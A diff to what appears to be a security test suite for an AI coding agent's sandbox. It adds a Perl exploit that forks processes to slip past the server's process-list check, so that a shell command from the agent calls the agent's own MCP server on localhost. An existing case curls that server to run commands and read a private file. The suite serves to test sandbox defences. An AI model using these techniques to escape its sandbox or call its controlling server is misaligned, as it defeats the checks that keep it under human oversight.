@@ -173,14 +173,51 @@ function lockedOut(ground: Ground): string[] {
   return ground.saw("LOCKED-OUT") ? ["nobody gets in any more"] : [];
 }
 
+const WITH_NETWORK: VictimOptions = { config: "[sandbox_workspace_write]\nnetwork_access = true\n" };
+
+/**
+ * Sends a request and passes its connection on to new processes, each of which replaces the one before, while the server looks for the
+ * process that holds it. Of some hundred tries, one succeeds if only the list of processes counts.
+ */
+const PASSED_ON = `
+my ($port, $said) = @ARGV;
+for my $try (1 .. 150) {
+  if (!fork) {
+    my $server = IO::Socket::INET->new("127.0.0.1:$port") or exit;
+    print $server "POST /mcp HTTP/1.1\\r\\nHost: 127.0.0.1:$port\\r\\nContent-Type: application/json\\r\\nAccept: application/json, text/event-stream\\r\\nContent-Length: ", length $said, "\\r\\n\\r\\n$said";
+    for (0 .. rand 3) { select undef, undef, undef, rand 0.012; exit if fork }
+    sysread $server, my $answer, 4000;
+    open my $note, ">", "note";
+    print $note $answer;
+    close $note;
+    rename "note", "answer$try";
+    exit;
+  }
+  wait;
+  for (1 .. 100) { last if -e "answer$try"; select undef, undef, undef, 0.01 }
+  open my $got, "<", "answer$try" or next;
+  print "CALLED", "-" if <$got> =~ / 200 /;
+}`;
+const passingOn = (url: string) => `perl -MIO::Socket::INET -e '${PASSED_ON}' ${new URL(url).port} '${JSON.stringify(handshake(0))}'`;
+
 describeAttacks("a command with network", [
+  {
+    name: "call the server that runs it by a process that is newer than the list of processes",
+    attempt: async (ground) => {
+      await using victim = await Victim.listening(ground, WITH_NETWORK);
+      using local = await victim.session();
+      await local.turn(`!call shell ${JSON.stringify({ command: ["bash", "-c", passingOn(victim.url)], timeout_ms: 60_000 })}\n!say done`);
+      if (!ground.has("answer1")) throw new Error("Nothing was sent: the attack was not tried.");
+    },
+    gained: (ground) => (ground.saw("CALLED-") ? ["a call from inside"] : []),
+    standIn: async (ground) => runPlainly(ground, passingOn(await openNaiveServer(ground))),
+  },
   {
     name: "call the server that runs it",
     quick: true,
     prepare: (ground) => ground.hold(ground.inWorkspace("private.txt"), ""),
     attempt: async (ground) => {
-      const config = "[sandbox_workspace_write]\nnetwork_access = true\n";
-      await using victim = await Victim.listening(ground, { config });
+      await using victim = await Victim.listening(ground, WITH_NETWORK);
       const given = [...HEADERS, "content-type: application/json"].map((header) => `-H '${header}'`).join(" ");
       const body = CALL.replace('"cat","private.txt"', '"echo","CALLED-"');
       const script = `for h in 127.0.0.1 localhost '[::1]'; do curl -s -m 10 ${given} -d '${body}' http://$h:${new URL(victim.url).port}/mcp; done`;
